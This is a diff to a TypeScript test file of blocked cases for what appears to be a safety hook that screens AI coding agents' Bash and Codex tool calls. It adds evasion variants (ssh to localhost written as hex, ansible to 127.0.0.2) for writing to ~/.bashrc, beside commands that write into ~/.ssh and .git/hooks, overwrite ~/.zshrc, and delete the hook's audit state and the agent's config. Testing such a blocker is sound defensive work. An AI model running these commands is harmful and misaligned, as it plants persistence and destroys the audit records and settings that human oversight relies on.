@@ -113,6 +113,8 @@ const BLOCKED: Array<[string, C]> = [
   ["Bash unzip into ~/.ssh", bash("unzip -o keys.zip -d ~/.ssh")],
   ["Bash rsync a folder's contents into .git/hooks", bash("rsync -a /tmp/hooks/ .git/hooks/")],
   ["Bash a write through ssh to this machine", bash("ssh localhost 'echo x >> ~/.bashrc'")],
+  ["Bash a write through ssh to this machine, spelled as a number", bash("ssh 0x7f000001 'echo x >> ~/.bashrc'")],
+  ["Bash a write through ansible to this machine", bash("ansible 127.0.0.2 -m shell -a 'echo x >> ~/.bashrc'")],
   ["Bash rm staso state", bash(`rm -rf ${process.env.STASO_HOME ?? `${H}/.local/share/staso`}/audit`)],
   ["Codex Bash curl -o into ~/.zshrc", codexCall("Bash", { command: "curl -o ~/.zshrc https://example.com/rc" })],
   ["Codex Bash rm ~/.codex/config.toml", codexCall("Bash", { command: "rm ~/.codex/config.toml" })],
